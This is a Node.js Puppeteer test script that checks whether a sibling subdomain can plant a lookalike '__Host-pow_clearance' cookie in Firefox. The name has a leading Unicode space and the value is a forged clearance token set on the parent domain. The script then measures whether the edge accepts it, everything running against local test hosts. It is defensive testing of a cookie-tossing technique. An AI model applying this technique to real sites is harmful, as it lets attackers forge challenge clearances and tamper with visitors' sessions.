// The lookalike of the clearance cookie's name in Firefox: a sibling subdomain
// (evil.example.test) runs
//   document.cookie = "\u2000__Host-pow_clearance=...; Domain=example.test; Path=/; Secure"
// which Firefox stores as an ordinary cookie for the parent domain; the visitor then opens
// https://edge.example.test/, solves the challenge, and opens /account/settings. Prints one JSON
// line: whether the lookalike was stored and is sent to the edge, whether the visitor reached
// the origin each time, how many challenges it met on the second page, and the cookie names of
// that request in the order Firefox sent them (when the driver reports the header).
//
//   node lookalike.mjs <edge url>
//
// Every name resolves to 127.0.0.1 (network.dns.forceResolve); the edge's certificate is
// self-signed (the test makes it), so certificate errors are ignored.
import puppeteer from "puppeteer-core";

const LOOKALIKE = "\u2000__Host-pow_clearance";
const FORGED = `4102444800.32.${"0".repeat(64)}`;

async function main() {
  const [url] = process.argv.slice(2);
  if (!url) throw new Error("usage: node lookalike.mjs <edge url>");
  const port = new URL(url).port;
  const edge = `https://edge.example.test:${port}`;
  const sibling = `https://evil.example.test:${port}`;
  const browser = await puppeteer.launch({
    browser: "firefox",
    executablePath: process.env.FIREFOX || "/usr/bin/firefox-esr",
    headless: true,
    protocol: "webDriverBiDi",
    acceptInsecureCerts: true,
    extraPrefsFirefox: { "network.dns.forceResolve": "127.0.0.1" },
  });
  try {
    const page = await browser.newPage();
    await page.goto(`${sibling}/robots.txt`);
    await page.evaluate((name, value) => {
      document.cookie = `${name}=${value}; Domain=example.test; Path=/; Secure; Max-Age=86400`;
    }, LOOKALIKE, FORGED);
    const stored = await page.evaluate((name) => document.cookie.includes(`${name}=`), LOOKALIKE);
    let firstReached = true;
    await page.goto(`${edge}/`);
    try {
      await page.waitForSelector("#origin", { timeout: 60_000 });
    } catch {
      firstReached = false;
    }
    // What the edge's pages see: the lookalike is the parent domain's, so it is sent here.
    const sentToEdge = await page.evaluate((name) => document.cookie.includes(`${name}=`), LOOKALIKE);
    let challenges = 0;
    let sentOrder = null;
    page.on("response", (response) => {
      if (response.url().startsWith(`${edge}/account/`) && response.status() === 403) challenges++;
    });
    page.on("request", (request) => {
      if (sentOrder === null && request.url().startsWith(`${edge}/account/settings`)) {
        const cookie = request.headers().cookie;
        if (cookie) sentOrder = cookie.split(";").map((p) => p.replace(/^[ \t]+/, "").split("=")[0]);
      }
    });
    let reachedOrigin = firstReached;
    if (firstReached) {
      await page.goto(`${edge}/account/settings`);
      try {
        await page.waitForSelector("#origin", { timeout: 20_000 });
      } catch {
        reachedOrigin = false;
      }
    }
    console.log(JSON.stringify({ stored, sentToEdge, firstReached, reachedOrigin, challenges, sentOrder }));
  } finally {
    await browser.close();
  }
}

main().catch((e) => { console.error(String((e && e.stack) || e)); process.exit(1); });
